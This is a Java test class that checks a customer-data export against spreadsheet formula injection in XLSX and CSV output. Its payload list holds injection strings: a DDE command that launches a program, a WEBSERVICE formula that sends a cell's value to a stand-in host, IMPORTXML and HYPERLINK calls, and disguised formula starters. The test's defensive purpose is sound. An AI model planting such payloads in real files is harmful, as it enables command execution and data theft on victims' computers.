package io.kedang.customer.export;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;

import io.kedang.KedangTest;
import io.kedang.TestClient;
import io.kedang.TestCompany;
import io.kedang.goal.Course;
import io.kedang.kernel.NewId;
import io.kedang.kernel.text.FormulaGuard;

import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestReporter;
import org.springframework.beans.factory.annotation.Autowired;

import tools.jackson.databind.json.JsonMapper;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.Pattern;

/// Texts that a spreadsheet program would run, in every disguise: no exported cell is run, and
/// nothing of what they say is lost.
@Tag("s5")
@KedangTest
class FormulaTests {
    private static final HttpClient HTTP = HttpClient.newHttpClient();
    private static final int COUNT = Course.count(60, 5_000);

    private static final List<String> LEADS =
            List.of("", "'", "''", "x ", "\u3000", "\u200b", "\"", "；", "\uff07");

    private static final List<String> STARTS =
            List.of("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "'=", "==", "-=");

    private static final List<String> BODIES =
            List.of(
                    "1+1",
                    "SUM(A1:A9)",
                    "HYPERLINK(\"http://x.example\",\"y\")",
                    "cmd|' /C calc'!A0",
                    "WEBSERVICE(\"http://x.example/\"&A1)",
                    "IMPORTXML(\"http://x.example\",\"//a\")",
                    "1,\"2\"",
                    "2;3",
                    "甲\n=1+1",
                    "甲\t=1+1");

    /// How a spreadsheet program recognises what it runs, whatever stands invisibly before it.
    private static final Pattern RUN =
            Pattern.compile("(?s)^[\\s\\p{Z}\\p{Cf}\\p{Cc}]*[=+\\-@＝＋－＠﹢﹣﹦﹫].*");

    @Autowired TestCompany company;
    @Autowired JsonMapper json;

    private TestClient client;
    private final Map<String, String> stored = new TreeMap<>();

    @BeforeEach
    void filesWhoseRemarksAreFormulas() {
        client = company.client(company.administrator());
        var random = Course.random("formulas");
        for (int i = 0; i < COUNT; i++) {
            var id = NewId.next();
            var name = "公式%05d公司".formatted(i);
            var body = Map.of("kind", "ORGANISATION", "name", name, "remarks", payload(random));
            var opened = client.put("/customers/" + id, json.writeValueAsString(body));
            assertThat(opened.status()).as(opened.response().body()).isEqualTo(201);
            stored.put(name, client.get("/customers/" + id).text("/remarks"));
        }
    }

    private static String payload(Random random) {
        return pick(random, LEADS) + pick(random, STARTS) + pick(random, BODIES);
    }

    private static String pick(Random random, List<String> words) {
        return words.get(random.nextInt(words.size()));
    }

    @Test
    void noCellIsRunAndNoneIsLost(TestReporter reporter) throws Exception {
        var inWorkbook = new TreeMap<String, String>();
        try (var book = new ReadableWorkbook(new ByteArrayInputStream(export("XLSX")))) {
            for (var row : book.getFirstSheet().read()) {
                if (stored.containsKey(row.getCellText(0))) {
                    assertThat(row.getCell(1).getFormula()).isNull();
                    inWorkbook.put(row.getCellText(0), row.getCellText(1));
                }
            }
        }
        assertThat(inWorkbook).isEqualTo(stored);

        var inText = new TreeMap<String, String>();
        var run = new ArrayList<String>();
        var csv = new String(export("CSV"), StandardCharsets.UTF_8).replace("\uFEFF", "");
        try (var rows = CsvReader.builder().ofCsvRecord(new StringReader(csv))) {
            for (var row : rows) {
                if (stored.containsKey(row.getField(0))) {
                    inText.put(row.getField(0), FormulaGuard.unescape(row.getField(1)));
                    run.addAll(
                            row.getFields().stream()
                                    .filter(cell -> RUN.matcher(cell).matches())
                                    .toList());
                }
            }
        }
        reporter.publishEntry("cells", "" + (inWorkbook.size() + inText.size()));
        assertThat(run).isEmpty();
        assertThat(inText).isEqualTo(stored);
    }

    private byte[] export(String format) throws Exception {
        var body = "{\"format\":\"%s\",\"columns\":[\"name\",\"remarks\"],\"q\":\"公式\"}";
        var request =
                HttpRequest.newBuilder(
                                URI.create(
                                        "http://127.0.0.1:" + company.port() + "/api/v1/exports"))
                        .header("Authorization", "Bearer " + client.token())
                        .header("Content-Type", "application/json")
                        .POST(BodyPublishers.ofString(body.formatted(format)))
                        .build();
        var answer = HTTP.send(request, BodyHandlers.ofByteArray());
        assertThat(answer.statusCode()).isEqualTo(200);
        return answer.body();
    }
}
